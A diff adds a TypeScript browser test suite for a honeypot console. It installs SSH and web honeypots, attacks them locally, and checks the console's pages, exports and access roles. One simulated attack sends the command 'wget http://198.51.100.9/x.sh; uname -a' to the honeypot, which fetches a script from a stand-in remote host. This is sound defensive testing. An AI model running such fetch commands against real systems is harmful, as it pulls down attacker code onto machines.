@@ -1,0 +1,253 @@
+/**
+ * The operator's console in a real browser (Debian's chromium through playwright-core) against
+ * a real Core and node: honeypots installed from the node's page, attacked by OpenSSH and curl,
+ * and every page checked for what it shows; a command sent from /nodes reaches the node.
+ */
+import { expect, test } from "bun:test";
+import { readFileSync } from "node:fs";
+import { EventStreamClient, getJson, startTestCore, until } from "../helpers";
+import { stringify } from "../../src/protocol/json";
+import { httpAttack, launchBrowser, sshAttack, startSystem } from "../helpers/console";
+import { sha256 } from "../../src/core/auth";
+import { consoleBundle } from "../../src/core/console/build";
+
+async function portOpen(port: number): Promise<boolean> {
+  try {
+    const s = await Bun.connect({ hostname: "127.0.0.1", port, socket: { data() {} } });
+    s.end();
+    return true;
+  } catch {
+    return false;
+  }
+}
+
+test("install from /nodes, attack, and see it on every page; a command from /nodes reaches the node", async () => {
+  await using sys = await startSystem();
+  const { core, nodeId, ports } = sys;
+  await using browser = await launchBrowser();
+  const context = await browser.newContext({ viewport: { width: 1366, height: 768 }, acceptDownloads: true });
+  context.setDefaultTimeout(30_000);
+  // Air-gapped networks: the console asks nothing of any host but Core.
+  const foreign: string[] = [];
+  context.on("request", (r) => {
+    if (!r.url().startsWith(core.api + "/") && !r.url().startsWith(core.api.replace("http:", "ws:") + "/") && !r.url().startsWith("blob:")) foreign.push(r.url());
+  });
+  const page = await context.newPage();
+  const errors: string[] = [];
+  page.on("pageerror", (e) => errors.push(String(e)));
+
+  // /nodes lists the node; its page installs both built-in kinds with the manifest's settings.
+  await page.goto(core.api + "/nodes");
+  await page.getByRole("link", { name: "sensor-1" }).click();
+  await page.waitForURL(`${core.api}/nodes/${nodeId}`);
+  const install = async (kind: string, potId: string, settings: Record<string, string>) => {
+    await page.selectOption("select[name=kind]", kind);
+    await page.fill("input[name=pot_id]", potId);
+    for (const [k, v] of Object.entries(settings)) await page.fill(`input[name=${k}]`, v);
+    await page.getByRole("button", { name: "Install" }).click();
+    await page.locator(`tr[data-pot="${potId}"] .badge`, { hasText: "Running" }).waitFor();
+  };
+  await install("cowrie", "ssh-01", { ssh_port: String(ports.ssh), telnet_port: String(ports.telnet), hostname: "db-prod-2" });
+  await install("honnypotter", "web-01", { http_port: String(ports.http) });
+  await page.locator('tr[data-command="InstallPot"] .badge', { hasText: "succeeded" }).first().waitFor();
+  expect(await page.locator('tr[data-command="InstallPot"]').count()).toBe(2);
+  // The form sent only what differs from the manifest's defaults.
+  const installs = (await getJson(`${core.api}/api/v1/commands?node_id=${nodeId}&command=InstallPot`)).body.commands;
+  expect(installs.map((c: any) => c.body.InstallPot).reverse()).toEqual([
+    { pot_id: "ssh-01", honeypot_type: "cowrie", config: { ssh_port: String(ports.ssh), telnet_port: String(ports.telnet), hostname: "db-prod-2" }, auto_start: true },
+    { pot_id: "web-01", honeypot_type: "honnypotter", config: { http_port: String(ports.http) }, auto_start: true },
+  ]);
+
+  // /live shows the attack as it happens.
+  const live = await context.newPage();
+  await live.goto(core.api + "/live");
+  await live.locator(".dot.open").waitFor();
+  expect((await sshAttack(ports.ssh, "root", "123456", "wget http://198.51.100.9/x.sh; uname -a")).code).toBe(0);
+  expect((await sshAttack(ports.ssh, "admin", "not-the-password")).code).toBe(255);
+  expect((await httpAttack(ports.http, "admin", "hunter2")).out).toBe("200");
+  const rows = live.getByTestId("live-events");
+  await rows.getByText("root / 123456").waitFor();
+  await rows.getByText("wget http://198.51.100.9/x.sh; uname -a").waitFor();
+  await rows.getByText("admin / hunter2").waitFor();
+  await expect(rows.locator("tr", { hasText: "admin / hunter2" }).locator("td").nth(3).textContent()).resolves.toBe("honnypotter.login.failed");
+  // Pause holds the table still while events keep coming; resume shows them.
+  await live.getByRole("button", { name: "Pause" }).click();
+  await httpAttack(ports.http, "paused", "while-paused");
+  await live.getByText(/paused, 1 arrived since/).waitFor();
+  expect(await rows.getByText("paused / while-paused").count()).toBe(0);
+  await live.getByRole("button", { name: "Resume" }).click();
+  await rows.getByText("paused / while-paused").waitFor();
+  await live.close();
+
+  // A command from the node's page reaches the node: Stop closes the SSH port, Start opens it.
+  await page.getByRole("button", { name: "Stop ssh-01", exact: true }).click();
+  await page.locator('tr[data-pot="ssh-01"] .badge', { hasText: "Stopped" }).waitFor();
+  await page.locator('tr[data-command="StopPot"] .badge', { hasText: "succeeded" }).waitFor();
+  expect(await portOpen(ports.ssh)).toBe(false);
+  await page.getByRole("button", { name: "Start ssh-01", exact: true }).click();
+  await page.locator('tr[data-pot="ssh-01"] .badge', { hasText: "Running" }).waitFor();
+  expect(await portOpen(ports.ssh)).toBe(true);
+  // The command's record, with the node's answer.
+  await page.locator('tr[data-command="StopPot"]').getByRole("button").click();
+  await page.locator("pre.json", { hasText: '"StopPot": "ssh-01"' }).waitFor();
+
+  // /events: filtered by address through the URL, an event's JSON, the filter exported. The
+  // port checks above opened SSH sessions: once each is closed, no more events come from here.
+  const stored = (await until(async () => {
+    const events = (await getJson(`${core.api}/api/v1/events?src_ip=127.0.0.1&limit=1000`)).body.events as any[];
+    const count = (type: string) => events.filter((e) => e.event_type === type).length;
+    return count("cowrie.session.connect") === count("cowrie.session.closed") ? events : null;
+  }, "every SSH session from the test closed"))!;
+  await page.goto(core.api + "/events?event_type=cowrie.login.failed");
+  const table = page.getByTestId("events");
+  await table.getByText("admin / not-the-password").waitFor();
+  expect(await table.locator("tbody tr").count()).toBe(1);
+  await table.getByRole("button").first().click();
+  await page.locator("pre.json", { hasText: '"password": "not-the-password"' }).waitFor();
+  await page.getByRole("button", { name: "last 1h" }).click();
+  await page.waitForURL(`${core.api}/events?event_type=cowrie.login.failed&since=1h`);
+  await table.getByText("admin / not-the-password").waitFor();
+  await page.goto(core.api + "/events?src_ip=127.0.0.1");
+  await table.getByText("paused / while-paused").waitFor();
+  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export NDJSON" }).click()]);
+  const lines = readFileSync(await download.path(), "utf8").trim().split("\n");
+  expect(lines.map((l) => JSON.parse(l).id)).toEqual(stored.map((e) => e.id));
+  // node_id keeps all 64 bits in the export.
+  expect(lines[0]).toContain(`"node_id":${nodeId}`);
+  const [csv] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export CSV" }).click()]);
+  const csvText = readFileSync(await csv.path(), "utf8");
+  expect(csvText.split("\r\n")[0]).toBe("id,timestamp,node_id,pot_id,pot_type,event_type,src_ip,data");
+  expect(csvText.trim().split("\r\n").length).toBe(stored.length + 1);
+
+  // /attackers/{ip}: every credential and command from the address, first and last seen.
+  await page.getByRole("link", { name: "127.0.0.1" }).first().click();
+  await page.waitForURL(`${core.api}/attackers/127.0.0.1`);
+  const creds = page.getByTestId("credentials");
+  for (const c of ["root / 123456", "admin / not-the-password", "admin / hunter2", "paused / while-paused"]) await creds.getByText(c, { exact: true }).waitFor();
+  await page.getByTestId("commands").getByText("wget http://198.51.100.9/x.sh; uname -a").waitFor();
+  await page.locator("#downloads").getByText("http://198.51.100.9/x.sh").waitFor();
+  const facts = await page.getByTestId("attacker-facts").textContent();
+  expect(facts).toContain(`First seen${stored.at(-1).timestamp.replace("T", " ").replace(/\.\d+Z$/, "Z")}`);
+  expect(facts).toContain(`Last seen${stored[0].timestamp.replace("T", " ").replace(/\.\d+Z$/, "Z")}`);
+
+  // / Overview: totals, top lists, health; a reload of a console URL lands on the same page.
+  await page.goto(core.api + "/");
+  await page.getByTestId("top-usernames").getByText("root").waitFor();
+  await page.getByTestId("top-passwords").getByText("123456").waitFor();
+  await page.getByTestId("top-ips").getByRole("link", { name: "127.0.0.1" }).waitFor();
+  await page.getByTestId("health").getByText("sensor-1").waitFor();
+  // Every event of this test is in the last hour (the node's own node.* events too).
+  const all = (await getJson(`${core.api}/api/v1/events?limit=1000`)).body.events.length;
+  await page.getByTestId("last-hour").getByText(String(all), { exact: true }).waitFor();
+  await page.reload();
+  await page.getByTestId("top-usernames").getByText("root").waitFor();
+
+  // Pages whose API this Core lacks say so; settings explain the roles.
+  await page.goto(core.api + "/sessions");
+  await page.getByText("Sessions: not available on this Core.").waitFor();
+  await page.goto(core.api + "/map");
+  await page.getByText("Countries and networks (GeoIP): not available on this Core.").waitFor();
+  await page.goto(core.api + "/settings");
+  // Outputs and rules exist on this Core: their definitions (none yet) are shown.
+  await page.locator("#outputs pre.json", { hasText: '"outputs": []' }).waitFor();
+  await page.locator("#rules pre.json").waitFor();
+  await page.getByTestId("whoami").getByText("checks no API tokens").waitFor();
+
+  // Keyboard: the skip link and the navigation are reachable with Tab.
+  await page.keyboard.press("Tab");
+  expect(await page.evaluate("document.activeElement?.textContent")).toBe("Skip to content");
+
+  expect(foreign).toEqual([]);
+  expect(errors).toEqual([]);
+  await context.close();
+}, 90_000);
+
+test("with tokens: sign in; the page loads without one, a read token sees no command controls", async () => {
+  const tokens = [
+    { name: "alice", role: "operator" as const, sha256: sha256("op-token-1") },
+    { name: "rita", role: "read" as const, sha256: sha256("read-token-1") },
+  ];
+  await using core = await startTestCore({ tokens });
+  // The page and its scripts carry no data: served without a token; the API still asks for one.
+  const html = await fetch(core.api + "/nodes");
+  expect(html.status).toBe(200);
+  expect(html.headers.get("content-security-policy")).toContain("default-src 'self'");
+  expect((await getJson(core.api + "/api/v1/nodes")).status).toBe(401);
+
+  await using browser = await launchBrowser();
+  const page = await browser.newPage();
+  await page.goto(core.api + "/settings");
+  await page.fill("#token", "wrong");
+  await page.getByRole("button", { name: "Sign in" }).click();
+  await page.getByRole("alert").getByText("the API token is not valid").waitFor();
+  await page.fill("#token", "read-token-1");
+  await page.getByRole("button", { name: "Sign in" }).click();
+  await page.getByTestId("whoami").getByText("Signed in as rita with role read.").waitFor();
+  expect(await page.evaluate("sessionStorage.getItem('honeybee.token')")).toBe("read-token-1");
+  expect(await page.evaluate("localStorage.getItem('honeybee.token')")).toBeNull();
+  // The live feed takes the same token.
+  await page.goto(core.api + "/live");
+  await page.locator(".dot.open").waitFor();
+  // A read token: a node page without Install or Start.
+  const node = await (await import("../helpers")).registerNode(core);
+  try {
+    await page.goto(core.api + "/nodes/18446744073709551557");
+    await page.getByText("Your token has role read").waitFor();
+    expect(await page.getByRole("button", { name: "Install" }).count()).toBe(0);
+    // Sign out forgets the token; an operator token gets the controls.
+    await page.getByRole("button", { name: "Sign out" }).click();
+    await page.fill("#token", "op-token-1");
+    await page.getByRole("button", { name: "Sign in" }).click();
+    await page.getByRole("button", { name: "Install" }).waitFor();
+  } finally {
+    node.socket.end();
+  }
+}, 60_000);
+
+test("the first load is under 300 KB compressed, and every console URL serves the page", async () => {
+  const b = await consoleBundle();
+  expect(b.firstLoadGzipBytes).toBeLessThan(300 * 1024);
+  await using core = await startTestCore();
+  for (const path of ["/", "/live", "/events", "/sessions", "/sessions/abc", "/map", "/nodes", "/nodes/42", "/attackers/203.0.113.7", "/settings"]) {
+    const res = await fetch(core.api + path, { headers: { "accept-encoding": "gzip" } });
+    expect([path, res.status, res.headers.get("content-type")]).toEqual([path, 200, "text/html; charset=utf-8"]);
+    expect(await res.text()).toContain('<div id="app">');
+  }
+  // Whatever the page loads is one of the bundle's files, named by content, cached for good.
+  const html = new TextDecoder().decode(b.index.body);
+  for (const [, src] of html.matchAll(/(?:src|href)="(\/console\/[^"]+)"/g)) {
+    const res = await fetch(core.api + src);
+    expect(res.status).toBe(200);
+    expect(res.headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
+  }
+  // Other paths keep their JSON 404.
+  expect((await getJson(core.api + "/console/nope.js")).body).toEqual({ error: { code: "not_found", message: "no console file nope.js" } });
+  expect((await getJson(core.api + "/nodes/1/2")).status).toBe(404);
+  expect((await getJson(core.api + "/swagger")).status).toBe(200);
+});
+
+test("/live keeps the newest events only, and holds still while the operator scrolls down to read", async () => {
+  await using core = await startTestCore();
+  await using browser = await launchBrowser();
+  const page = await browser.newPage({ viewport: { width: 1366, height: 768 } });
+  await page.goto(core.api + "/live");
+  await page.locator(".dot.open").waitFor();
+  using c = await EventStreamClient.connect(core.ports.event, { acks: true });
+  const send = async (from: number, n: number) => {
+    c.send(Array.from({ length: n }, (_, i) => stringify({ eventid: "test.event", src_ip: "198.51.100.1", message: `m${from + i}` })));
+    await c.ack(from + n);
+  };
+  await send(0, 1200);
+  await page.getByText("m1199", { exact: true }).waitFor();
+  await page.getByText("1000 kept (newest 1000)").waitFor();
+  const table = page.locator(".live-table");
+  await table.evaluate((el) => el.scrollTo({ top: 400 }));
+  const firstRow = () => page.locator(".live-table tbody tr:not(.spacer-row)").first().textContent();
+  await page.getByText(/0 newer: back to the top/).waitFor();
+  const before = await firstRow();
+  await send(1200, 50);
+  await page.getByText("↑ 50 newer: back to the top to follow").waitFor();
+  expect(await firstRow()).toBe(before);
+  await page.getByText("↑ 50 newer: back to the top to follow").click();
+  await page.getByText("m1249", { exact: true }).waitFor();
+});
